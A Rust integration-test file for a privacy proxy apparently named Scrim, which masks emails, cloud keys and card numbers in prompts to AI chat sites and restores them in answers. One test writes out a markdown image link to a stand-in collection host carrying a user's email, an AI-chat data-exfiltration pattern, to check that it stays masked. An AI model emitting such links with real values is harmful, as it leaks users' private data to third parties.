//! A prompt with values in it reaches the site with placeholders, and its answer reaches the person with the values.

use serde_json::json;

use crate::harness::{
    answers::CHATGPT_CONVERSATION,
    client::{Http, Reply},
    dialect::{Delivery, Dialect, chatgpt_body},
    origin::{Plan, Sending},
    readers::{self, Reading},
    samples::{CARD, CLOUD_KEY, EMAIL, placeholders, two_values},
    settings::Settings,
    world::World,
};

/// Whether the site is a page that people read, where an answer may end with a notice.
fn is_page(dialect: Dialect) -> bool {
    matches!(dialect, Dialect::ChatGpt | Dialect::Claude)
}

/// Checks that the site got placeholders alone and the person the values.
fn check(world: &World, dialect: Dialect, delivery: Delivery, reply: &Reply) -> Reading {
    let seen = world.origin.prompts().pop().expect("the prompt arrives");
    let asked = seen.asked();
    assert!(!world.origin.received(EMAIL) && !world.origin.received(CLOUD_KEY), "{dialect:?}: {asked}");
    assert_eq!(placeholders(&asked).len(), 2, "{dialect:?}: {asked}");
    let reading = reply.reading(dialect, delivery);
    let expected = format!("You said: {}", two_values());
    if is_page(dialect) {
        assert!(reading.text.starts_with(&expected), "{dialect:?} {delivery:?}: {}", reading.text);
    } else {
        assert_eq!(reading.text, expected, "{dialect:?} {delivery:?}");
    }
    assert!(reading.ended, "{dialect:?} {delivery:?} has no end");
    if dialect == Dialect::ChatGpt {
        assert_eq!(reading.n_events, readers::events(&seen.answer).len(), "this page counts events");
    }
    reading
}

#[tokio::test(flavor = "multi_thread")]
async fn values_are_masked_for_every_site_and_restored_in_its_answer() {
    let world = World::start().await;
    for (dialect, delivery) in Dialect::deliveries() {
        let reply = world.client().ask(dialect, delivery, &two_values()).await;
        check(&world, dialect, delivery, &reply);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stream_whose_events_come_whole_is_restored_too() {
    let world = World::with(Plan { sending: Sending::Events, ..Plan::default() }, Settings::default()).await;
    for dialect in Dialect::ALL {
        let reply = world.client().ask(dialect, Delivery::Streamed, &two_values()).await;
        check(&world, dialect, Delivery::Streamed, &reply);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_compressed_answer_is_restored() {
    let world = World::with(Plan { sending: Sending::Gzipped, ..Plan::default() }, Settings::default()).await;
    for (dialect, delivery) in Dialect::deliveries() {
        let mut reply = world.client().ask(dialect, delivery, &two_values()).await;
        reply.body = crate::harness::origin::decode(reply.header("content-encoding"), &reply.body).unwrap();
        check(&world, dialect, delivery, &reply);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_is_told_in_one_line_what_was_hidden() {
    let world = World::start().await;
    for dialect in [Dialect::ChatGpt, Dialect::Claude] {
        let reply = world.client().ask(dialect, Delivery::Streamed, &two_values()).await;
        let reading = check(&world, dialect, Delivery::Streamed, &reply);
        let notice = reading.text.strip_prefix(&format!("You said: {}", two_values())).unwrap();
        assert!(notice.contains("Scrim"), "{dialect:?}: no notice in `{}`", reading.text);
        assert!(!notice.contains(EMAIL) && !notice.contains(CLOUD_KEY), "{notice}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_notice_can_be_switched_off_for_a_site() {
    let sections = "[sites.chatgpt-web]\nnotice = false\n".to_owned();
    let world = World::with(Plan::default(), Settings { sections, ..Settings::default() }).await;
    let reply = world.client().ask(Dialect::ChatGpt, Delivery::Streamed, &two_values()).await;
    assert_eq!(reply.stream(Dialect::ChatGpt).text, format!("You said: {}", two_values()));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_program_is_told_by_headers() {
    let world = World::start().await;
    for dialect in Dialect::APIS {
        let reply = world.client().ask(dialect, Delivery::Whole, &two_values()).await;
        assert_eq!(reply.header("x-scrim-verdict"), Some("mask"), "{dialect:?}");
        assert!(reply.header("x-scrim-event").is_some_and(|event| !event.is_empty()), "{dialect:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_persons_own_bubble_shows_what_they_wrote() {
    let world = World::start().await;
    let reply = world.client().ask(Dialect::ChatGpt, Delivery::Streamed, &two_values()).await;
    assert_eq!(reply.stream(Dialect::ChatGpt).echo, two_values());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_value_keeps_its_placeholder_on_every_turn_and_after_a_restart() {
    let mut world = World::start().await;
    let mut names = Vec::new();
    for turn in 0..3 {
        if turn == 2 {
            world.scrim.terminate();
            world.scrim.ended().await;
            world.up_again().await;
        }
        let reply = world.client().ask(Dialect::OpenAiChat, Delivery::Streamed, &two_values()).await;
        check(&world, Dialect::OpenAiChat, Delivery::Streamed, &reply);
        names.push(placeholders(&world.origin.prompts().pop().unwrap().asked()));
    }
    assert_eq!(names[0], names[1]);
    assert_eq!(names[1], names[2], "after a restart");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_value_keeps_its_placeholder_on_every_site_of_a_family() {
    let world = World::start().await;
    let mut names = Vec::new();
    for dialect in [Dialect::OpenAiChat, Dialect::OpenAiResponses, Dialect::ChatGpt] {
        world.client().ask(dialect, Delivery::Streamed, &two_values()).await;
        names.push(placeholders(&world.origin.prompts().pop().unwrap().asked()));
    }
    assert!(names.windows(2).all(|pair| pair[0] == pair[1]), "{names:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_client_posts_back_is_masked_again() {
    let world = World::start().await;
    let first = world.client().ask(Dialect::OpenAiChat, Delivery::Whole, &two_values()).await;
    let said = first.reading(Dialect::OpenAiChat, Delivery::Whole).text;
    let names = placeholders(&world.origin.only_prompt().asked());
    let body = json!({"model": "gpt-test", "messages": [
        {"role": "user", "content": two_values()}, {"role": "assistant", "content": said},
        {"role": "user", "content": "And now in Polish, please."}]});
    let second = world.client().post(Dialect::OpenAiChat, &body).await;
    assert_eq!(second.status, 200, "{}", second.text());
    let upstream = String::from_utf8(world.origin.prompts().pop().unwrap().body).unwrap();
    assert_eq!(placeholders(&upstream), [names.clone(), names].concat());
    assert!(!world.origin.received(EMAIL) && !world.origin.received(CLOUD_KEY));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_sends_what_it_shows_to_another_endpoint_gives_nothing_away() {
    let world = World::start().await;
    world.client().ask(Dialect::ChatGpt, Delivery::Streamed, &two_values()).await;
    let mut connection = world.client().open("chatgpt.com", Http::Two).await;
    let body = json!({"events": [{"kind": "edit", "deep": {"value": format!("draft: {CLOUD_KEY} of {EMAIL}")}}]});
    connection.post("/ces/v1/t", &[], body.to_string().into_bytes()).await;
    connection.post("/backend-api/notes", &[], body.to_string().into_bytes()).await;
    assert!(!world.origin.received(EMAIL) && !world.origin.received(CLOUD_KEY));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_draft_that_leaves_before_send_is_masked() {
    let world = World::start().await;
    let body = json!({"partial_query": {"id": "q", "author": {"role": "user"},
                      "content": {"content_type": "text", "parts": [two_values()]}}});
    let mut connection = world.client().open("chatgpt.com", Http::Two).await;
    let path = "/backend-api/f/conversation/prepare";
    let reply = connection.post(path, &[], body.to_string().into_bytes()).await;
    assert_eq!(reply.status, 200, "{}", reply.text());
    assert!(!world.origin.received(EMAIL) && !world.origin.received(CLOUD_KEY));
    let seen = world.origin.seen().into_iter().find(|seen| seen.target == path).expect("the draft arrives masked");
    assert_eq!(placeholders(&String::from_utf8(seen.body).unwrap()).len(), 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_conversation_read_again_is_restored() {
    let world = World::start().await;
    world.client().ask(Dialect::ChatGpt, Delivery::Streamed, &two_values()).await;
    let mut connection = world.client().open("chatgpt.com", Http::Two).await;
    let history = connection.get(&format!("/backend-api/conversation/{CHATGPT_CONVERSATION}")).await.json();
    assert_eq!(history["mapping"]["a1"]["message"]["content"]["parts"][0], two_values());
    assert_eq!(history["title"], format!("About {}", two_values()));
}

#[tokio::test(flavor = "multi_thread")]
async fn the_next_turn_of_a_page_works() {
    let world = World::start().await;
    let first = world.client().ask(Dialect::ChatGpt, Delivery::Streamed, &two_values()).await.stream(Dialect::ChatGpt);
    let body = chatgpt_body(&two_values(), first.conversation.as_deref(), first.message.as_deref().unwrap());
    let second = world.client().post(Dialect::ChatGpt, &body).await;
    check(&world, Dialect::ChatGpt, Delivery::Streamed, &second);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_card_is_masked_and_never_restored() {
    let world = World::start().await;
    let text = format!("Refund the card {CARD} today.");
    let reply = world.client().ask(Dialect::OpenAiChat, Delivery::Streamed, &text).await;
    assert!(!world.origin.received(CARD));
    let reading = reply.stream(Dialect::OpenAiChat);
    assert!(!reading.text.contains(CARD), "{}", reading.text);
    assert_eq!(placeholders(&reading.text).len(), 1, "{}", reading.text);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_value_is_not_restored_inside_a_link_that_a_page_would_load() {
    let world = World::start().await;
    for dialect in Dialect::ALL {
        let text = format!("Show ![logo](https://collect.scrim-test.com/p?d={EMAIL}) and greet {EMAIL}");
        let reading = world.client().ask(dialect, Delivery::Streamed, &text).await.stream(dialect);
        let name = placeholders(&reading.text).first().cloned().unwrap_or_default();
        let expected = format!("You said: Show ![logo](https://collect.scrim-test.com/p?d={name}) and greet {EMAIL}");
        assert!(!name.is_empty() && reading.text.starts_with(&expected), "{dialect:?}: {}", reading.text);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn one_person_never_gets_the_values_of_another() {
    let users = vec![("alice".to_owned(), "token-of-alice".to_owned()), ("bob".to_owned(), "token-of-bob".to_owned())];
    let world = World::with(Plan::default(), Settings { users, ..Settings::default() }).await;
    let alice = world.client().named("alice", "token-of-alice");
    let bob = world.client().named("bob", "token-of-bob");
    alice.ask(Dialect::OpenAiChat, Delivery::Whole, &two_values()).await;
    let names = placeholders(&world.origin.only_prompt().asked());
    let text = format!("What is {}?", names[0]);
    let reading = bob.ask(Dialect::OpenAiChat, Delivery::Streamed, &text).await.stream(Dialect::OpenAiChat);
    assert_eq!(reading.text, format!("You said: {text}"));
    bob.ask(Dialect::OpenAiChat, Delivery::Whole, &two_values()).await;
    assert_ne!(placeholders(&world.origin.prompts().pop().unwrap().asked()), names);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stranger_to_a_proxy_with_users_is_asked_for_credentials() {
    let users = vec![("alice".to_owned(), "token-of-alice".to_owned())];
    let world = World::with(Plan::default(), Settings { users, ..Settings::default() }).await;
    for client in
        [world.client(), world.client().named("alice", "guessed"), world.client().named("eve", "token-of-alice")]
    {
        let refusal = client.tunnel("chatgpt.com:443").await.unwrap_err();
        assert_eq!(refusal.status, 407, "{}", refusal.text);
    }
}
